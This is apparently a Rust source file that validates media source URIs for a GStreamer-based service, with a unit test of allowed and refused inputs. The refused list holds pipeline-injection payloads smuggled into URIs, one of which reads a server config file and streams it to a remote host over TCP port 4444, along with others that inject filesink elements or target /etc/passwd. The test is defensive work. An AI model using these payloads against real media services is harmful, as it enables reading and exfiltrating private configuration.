//! Which media sources a session may name.

/// A session `source` is a name (`synthetic`, `testpattern`, `gst-testpattern`) or one URI
/// that [`crate::media::source::parse`] accepts: its allow-list of schemes (F1) is the only
/// one, and the source is built from elements, never pipeline text. The URI must also parse
/// as RFC 3986 says, so that what GStreamer's `uridecodebin` receives is a URI.
pub fn check_source(source: &str) -> std::result::Result<(), String> {
    if matches!(source, "synthetic" | "testpattern") {
        return Ok(());
    }
    crate::media::source::parse(source).map_err(|why| format!("{source:?}: {why}"))?;
    if source != "gst-testpattern" {
        url::Url::parse(source).map_err(|e| format!("{source:?} is not a URI: {e}"))?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// F1: the pipeline-injection payload of the review and its variants are refused before
    /// any source is built; plain URIs pass.
    #[test]
    fn sources_are_uris_with_allowed_schemes_and_no_pipeline_text() {
        for ok in [
            "synthetic",
            "testpattern",
            "gst-testpattern",
            "file:///srv/media/talk.mkv",
            "rtsp://cam.local:554/stream1",
            "http://media.local/live.ts?token=abc&x=1",
            "v4l2:///dev/video0",
            "v4l2:///dev/video0?alsa=hw:1,0",
            "rtsps://cam.local/stream1",
            // A comma is a URI sub-delimiter; as a `uri` property it adds nothing.
            "file:///a,b",
        ] {
            assert!(check_source(ok).is_ok(), "{ok}");
        }
        for bad in [
            "file:///x filesrc location=/etc/layercast/server.toml ! tcpclientsink host=h port=4444 videotestsrc",
            "file:///x!filesink",
            "file:///x\tfilesrc",
            "v4l2:///etc/passwd",
            "v4l2:///dev/video0?alsa=hw:1 ! filesink",
            "rtsp://h/x location=y",
            "data:text/plain,hi",
            "gopher://h/",
            "appsrc",
            "file:///x\"y",
        ] {
            assert!(check_source(bad).is_err(), "{bad}");
        }
    }
}
